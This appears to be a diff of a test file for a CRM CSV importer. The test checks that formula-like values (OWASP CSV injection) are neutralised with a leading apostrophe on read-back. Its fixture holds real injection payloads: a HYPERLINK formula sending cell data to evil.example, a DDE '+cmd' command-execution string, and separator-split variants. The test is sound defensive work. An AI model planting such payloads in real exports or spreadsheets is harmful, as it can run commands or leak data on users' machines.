@@ -115,18 +115,18 @@ test('BOM, CRLF, quoted commas, quotes and line breaks are read as RFC 4180 says
   assert.equal(read.text, 'id,first_name,title,notes\nc-q,"Lovelace, Ada","The ""Countess""","line one\r\nline two"\n');
 });
 
-test('read-back: text a spreadsheet would run as a formula comes back as quoted text with a leading \', numbers as they are (OWASP CSV injection)', async () => {
+test('read-back: text a spreadsheet would run as a formula comes back as quoted text with a leading \', text a separator could split into a formula quoted, numbers as they are (OWASP CSV injection)', async () => {
   const upload = [
-    'id,name,website,industry,region,country,domain,annual_revenue,number_of_employees,crm_note,crm_wide',
-    'f-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",+cmd|\' /C calc\'!A0,@SUM(1+1),-2+3,"\tTab","\'quoted",-12.5,-3,"\r=1+1",\uFF1D1+1',
+    'id,name,website,industry,region,country,domain,annual_revenue,number_of_employees,crm_note,crm_wide,crm_split,crm_tab,crm_plain',
+    'f-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",+cmd|\' /C calc\'!A0,@SUM(1+1),-2+3,"\tTab","\'quoted",-12.5,-3,"\r=1+1",\uFF1D1+1,x;=1+1,"a\t=1",Acme Industries-2',
   ].join('\n');
   const done = await importer.run('account', `${upload}\n`);
   assert.equal(done.status, 'completed', JSON.stringify(done));
   const read = await request('GET', '/import/crm/account/f-1');
   assert.equal(
     read.text,
-    'id,name,website,domain,industry,annual_revenue,number_of_employees,region,country,crm_note,crm_wide\n' +
-      'f-1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","\'+cmd|\' /C calc\'!A0","\'\'quoted","\'@SUM(1+1)",-12.5,-3,"\'-2+3","\'\tTab","\'\r=1+1","\'\uFF1D1+1"\n',
+    'id,name,website,domain,industry,annual_revenue,number_of_employees,region,country,crm_note,crm_plain,crm_split,crm_tab,crm_wide\n' +
+      'f-1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","\'+cmd|\' /C calc\'!A0","\'\'quoted","\'@SUM(1+1)",-12.5,-3,"\'-2+3","\'\tTab","\'\r=1+1",Acme Industries-2,"x;=1+1","a\t=1","\'\uFF1D1+1"\n',
   );
   // What docs/importer.md tells a client: drop one leading ' from a text value that has it.
   const stored = await data.selectFrom('accounts').select(['name', 'website', 'industry', 'region', 'country', 'domain', 'additional_fields']).where('id', '=', 'f-1').executeTakeFirstOrThrow();
